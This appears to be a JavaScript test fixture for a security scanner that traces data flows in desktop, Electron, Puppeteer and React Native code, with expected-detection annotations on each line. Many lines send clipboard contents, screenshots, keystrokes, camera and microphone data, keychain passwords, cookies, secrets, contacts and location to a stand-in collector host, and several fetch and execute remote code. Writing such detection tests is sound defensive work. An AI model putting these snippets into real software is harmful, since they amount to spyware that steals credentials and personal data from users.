// The desktop, Electron, driven browsers, React Native.
const activeWin = require("active-win");
const asyncStorage = require("@react-native-async-storage/async-storage");
const axios = require("axios");
const clipboardy = require("clipboardy");
const contacts = require("expo-contacts");
const deviceInfo = require("react-native-device-info");
const electron = require("electron");
const expoFiles = require("expo-file-system");
const expoLocation = require("expo-location");
const hooks = require("iohook");
const keyboard = require("node-global-key-listener");
const keytar = require("keytar");
const puppeteer = require("puppeteer");
const recorder = require("node-record-lpcm16");
const reactNative = require("react-native");
const robot = require("robotjs");
const screenshot = require("screenshot-desktop");
const webcam = require("node-webcam");

const U = "https://collector.example/u";

async function captured(page) {
  axios.post(U, clipboardy.readSync()); //~ source(CLIPBOARD) f1, sink(egress.http) f1, finding(traced) f1, capability(CLIPBOARD)
  axios.post(U, { none: clipboardy.readSync() === "" }); //~ ok
  axios.post(U, clipboardy.writeSync(process.env.T)); //~ capability(CLIPBOARD)
  axios.post(U, clipboardy.writeSync("ping")); //~ ok
  axios.post(U, await screenshot()); //~ source(SCREEN) f2, sink(egress.http) f2, finding(traced) f2, capability(SCREEN)
  axios.post(U, { none: (await require("screenshot-desktop")()) === null }); //~ ok
  axios.post(U, await page.capturePage()); //~ source(SCREEN) f3, sink(egress.http) f3, finding(traced) f3, capability(SCREEN)
  axios.post(U, { none: (await page.capturePage()) === null }); //~ ok
  axios.post(U, activeWin.sync()); //~ source(PROCESS) f4, sink(egress.http) f4, finding(traced) f4, capability(PROCESSES)
  axios.post(U, { none: activeWin.sync() === null }); //~ ok
  axios.post(U, webcam.create({})); //~ source(CAMERA) f5, sink(egress.http) f5, finding(traced) f5, capability(CAMERA)
  axios.post(U, { none: webcam.create({}) === null }); //~ ok
  axios.post(U, recorder.record({})); //~ source(AUDIO) f6, sink(egress.http) f6, finding(traced) f6, capability(MICROPHONE)
  axios.post(U, { none: recorder.record({}) === null }); //~ ok
}

function keys() {
  hooks.on("keydown", (event) => axios.post(U, event.keycode)); //~ source(KEYSTROKE) f7, sink(egress.http) f7, finding(traced) f7, capability(KEYBOARD)
  hooks.on("keydown", () => axios.post(U, "key")); //~ ok
  const listener = new keyboard.GlobalKeyboardListener(); //~ capability(KEYBOARD)
  listener.addListener((event) => axios.post(U, event.name)); //~ source(KEYSTROKE) f8, sink(egress.http) f8, finding(traced) f8
  new keyboard.GlobalKeyboardListener().addListener(() => axios.post(U, "key")); //~ ok
  electron.globalShortcut.register("F1", () => axios.post(U, process.env.T)); //~ source(ENVIRONMENT) f9, sink(egress.http) f9, finding(traced) f9, capability(KEYBOARD)
  electron.globalShortcut.register("F1", () => axios.post(U, "help")); //~ ok
  robot.keyTap("a"); //~ capability(KEYBOARD)
  axios.post(U, robot.keyTap(process.env.T)); //~ ok
}

async function secrets() {
  axios.post(U, await keytar.getPassword("s", "a")); //~ source(CREDENTIAL) f10, sink(egress.http) f10, finding(traced) f10, capability(CREDENTIALS)
  axios.post(U, { none: (await keytar.getPassword("s", "a")) === null }); //~ ok
  axios.post(U, electron.safeStorage.encryptString(process.env.T)); //~ source(ENVIRONMENT) f11, sink(egress.http) f11, finding(traced) f11, capability(CREDENTIALS)
  axios.post(U, electron.safeStorage.encryptString("ping")); //~ ok
}

async function electronParts() {
  electron.ipcRenderer.send("c", process.env.T); //~ source(ENVIRONMENT) f12, sink(egress.ipc) f12, finding(traced) f12, capability(IPC)
  electron.ipcRenderer.send("c", "ping"); //~ ok
  axios.post(U, electron.ipcRenderer.sendSync("c")); //~ source(INPUT) f13, sink(egress.http) f13, finding(traced) f13
  electron.ipcMain.on("c", (event, text) => axios.post(U, text)); //~ source(INPUT) f14, sink(egress.http) f14, finding(traced) f14, capability(IPC)
  electron.ipcMain.on("c", () => axios.post(U, "c")); //~ ok
  const request = electron.net.request("https://el.collector.example/u"); //~ capability(NETWORK), endpoint("https://el.collector.example/u")
  request.write(process.env.T); //~ source(ENVIRONMENT) f15, sink(egress.http) f15, finding(traced) f15
  electron.net.request(U).write("ping"); //~ ok
  const window = new electron.BrowserWindow({});
  window.loadURL(U + "?t=" + process.env.T); //~ source(ENVIRONMENT) f16, sink(egress.http) f16, finding(traced) f16, capability(NETWORK)
  window.loadURL(U); //~ ok
  axios.post(U, await window.webContents.capturePage()); //~ source(SCREEN) f17, sink(egress.http) f17, finding(traced) f17, capability(SCREEN)
  axios.post(U, { none: (await new electron.BrowserWindow({}).webContents.capturePage()) === null }); //~ ok
  axios.post(U, electron.app.getPath("home")); //~ source(DEVICE) f18, sink(egress.http) f18, finding(traced) f18, capability(DEVICE)
  axios.post(U, { none: electron.app.getPath("home") === "" }); //~ ok
  electron.app.setLoginItemSettings({ openAtLogin: true }); //~ capability(PERSISTENCE)
  axios.post(U, electron.app.setLoginItemSettings(process.env.T)); //~ ok
  axios.post(U, await electron.dialog.showOpenDialog({})); //~ source(INPUT) f19, sink(egress.http) f19, finding(traced) f19
  axios.post(U, { none: (await electron.dialog.showOpenDialog({})) === null }); //~ ok
  electron.autoUpdater.setFeedURL({ url: "https://up.collector.example" }); //~ capability(DYNAMIC_CODE), endpoint("https://up.collector.example")
  electron.autoUpdater.setFeedURL({}); //~ ok
  electron.contextBridge.exposeInMainWorld("api", {}); //~ capability(IPC)
  axios.post(U, electron.contextBridge.exposeInMainWorld(process.env.T)); //~ ok
}

async function electronCode(view) {
  const { data } = await axios.get(U); //~ source(NETWORK) f20
  electron.shell.openExternal(data); //~ sink(exec.command) f20, finding(traced) f20, capability(EXEC)
  electron.shell.openExternal("https://docs.example"); //~ ok
  view.executeJavaScript(data); //~ sink(exec.code) f20, finding(traced) f20, capability(DYNAMIC_CODE)
  view.executeJavaScript("1"); //~ ok
  new electron.BrowserWindow({}).webContents.executeJavaScript(data); //~ sink(exec.code) f20, finding(traced) f20, capability(DYNAMIC_CODE)
  new electron.BrowserWindow({}).webContents.executeJavaScript("1"); //~ ok
}

async function driven() {
  const browser = await puppeteer.launch({}); //~ capability(EXEC)
  const page = await browser.newPage();
  await page.goto(U + "?t=" + process.env.T); //~ source(ENVIRONMENT) f21, sink(egress.http) f21, finding(traced) f21, capability(NETWORK)
  await page.goto(U); //~ ok
  axios.post(U, await page.screenshot()); //~ source(SCREEN) f22, sink(egress.http) f22, finding(traced) f22
  axios.post(U, { none: (await page.screenshot()) === null }); //~ ok
  eval(await page.content()); //~ source(NETWORK) f23, sink(exec.code) f23, finding(traced) f23
  axios.post(U, { none: (await page.content()) === "" }); //~ ok
  axios.post(U, await page.cookies()); //~ source(CREDENTIAL) f24, sink(egress.http) f24, finding(traced) f24, capability(CREDENTIALS)
  axios.post(U, { none: (await page.cookies()) === null }); //~ ok
  const { data } = await axios.get(U); //~ source(NETWORK) f25
  await page.mainFrame().evaluate(data); //~ sink(exec.code) f25, finding(traced) f25, capability(DYNAMIC_CODE)
  await page.mainFrame().evaluate("1"); //~ ok
  await page.type("#f", process.env.T); //~ source(ENVIRONMENT) f26, sink(egress.http) f26, finding(traced) f26
  await page.type("#f", "ping"); //~ ok
  (await (await puppeteer.launch({})).newPage()).mainFrame(); //~ ok
}

async function phone() {
  axios.post(U, await asyncStorage.getItem("k")); //~ source(DATABASE) f27, sink(egress.http) f27, finding(traced) f27, capability(DATABASE)
  axios.post(U, { none: (await asyncStorage.getItem("k")) === null }); //~ ok
  axios.post(U, await contacts.getContactsAsync()); //~ source(PERSONAL) f28, sink(egress.http) f28, finding(traced) f28
  axios.post(U, { none: (await contacts.getContactsAsync()) === null }); //~ ok
  axios.post(U, await expoLocation.getCurrentPositionAsync({})); //~ source(LOCATION) f29, sink(egress.http) f29, finding(traced) f29, capability(LOCATION)
  axios.post(U, { none: (await expoLocation.getCurrentPositionAsync({})) === null }); //~ ok
  axios.post(U, await deviceInfo.getUniqueId()); //~ source(DEVICE) f30, sink(egress.http) f30, finding(traced) f30, capability(DEVICE)
  axios.post(U, { none: (await deviceInfo.getUniqueId()) === null }); //~ ok
  axios.post(U, await expoFiles.readAsStringAsync("/x")); //~ source(FILE) f31, sink(egress.http) f31, finding(traced) f31, capability(FILES)
  axios.post(U, { none: (await expoFiles.readAsStringAsync("/x")) === null }); //~ ok
  await expoFiles.uploadAsync(U, "/x"); //~ source(FILE) f32, sink(egress.http) f32, finding(traced) f32, capability(NETWORK)
  axios.post(U, { has: expoFiles.uploadAsync === undefined }); //~ ok
  reactNative.Linking.openURL(U + "?t=" + process.env.T); //~ source(ENVIRONMENT) f33, sink(egress.http) f33, finding(traced) f33, capability(NETWORK)
  reactNative.Linking.openURL(U); //~ ok
}
